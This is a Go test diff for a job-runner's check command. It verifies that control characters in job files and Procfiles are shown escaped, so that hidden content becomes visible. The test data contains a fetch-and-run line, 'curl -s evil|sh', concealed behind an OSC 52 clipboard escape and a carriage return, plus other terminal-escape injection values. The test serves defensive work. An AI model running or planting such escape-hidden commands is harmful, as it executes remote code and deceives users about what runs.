@@ -3,6 +3,7 @@ package cmd
 import (
 	"bytes"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -148,4 +149,48 @@ func TestCheckADirectoryChecksItsJobFile(t *testing.T) {
 
 	_, _, err = runCheck(t, t.TempDir())
 	require.ErrorContains(t, err, "no job file in ")
+}
+
+// A hostile job file hides what a command does behind escape sequences
+// and a carriage return, which a terminal would act on (OSC 52 writes
+// the clipboard): check shows every control character as an escape, so
+// the hidden part is there to read, in job files and Procfiles alike.
+func TestCheckShowsWhatEscapesHide(t *testing.T) {
+	hidden := "\x1b]52;c;" + strings.Repeat("Y3VybA==", 10) + "\x07curl -s evil|sh;:\r\x1b[Kecho hello"
+	for _, c := range []struct{ name, text string }{
+		{"jobtop.yaml", "jobs:\n  web:\n    cmd: " + yamlQuote(hidden) + "\n    cwd: " + yamlQuote("sub\x1b[2Jdir") +
+			"\n    ready: {log: " + yamlQuote("up\u009b2J") + "}\n    stop: {command: " + yamlQuote("kill\rok") + "}\n"},
+		{"Procfile", "web: " + hidden + "\n"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			dir := t.TempDir()
+			require.NoError(t, os.MkdirAll(filepath.Join(dir, "sub\x1b[2Jdir"), 0o700))
+			path := filepath.Join(dir, c.name)
+			require.NoError(t, os.WriteFile(path, []byte(c.text), 0o600))
+			stdout, stderr, err := runCheck(t, path)
+			require.NoError(t, err, stderr)
+			for _, out := range []string{stdout, stderr} {
+				assert.NotContains(t, out, "\x1b")
+				assert.NotContains(t, out, "\r")
+				assert.NotContains(t, out, "\u009b")
+				assert.NotContains(t, out, "\x07")
+			}
+			assert.Contains(t, stdout, `==\acurl -s evil|sh;:\r\x1b[Kecho`)
+		})
+	}
+}
+
+// yamlQuote is s as a YAML double-quoted string.
+func yamlQuote(s string) string {
+	var b strings.Builder
+	b.WriteByte('"')
+	for _, r := range s {
+		if r < 0x20 || r >= 0x7f && r <= 0x9f {
+			fmt.Fprintf(&b, `\u%04x`, r)
+		} else {
+			b.WriteRune(r)
+		}
+	}
+	b.WriteByte('"')
+	return b.String()
 }
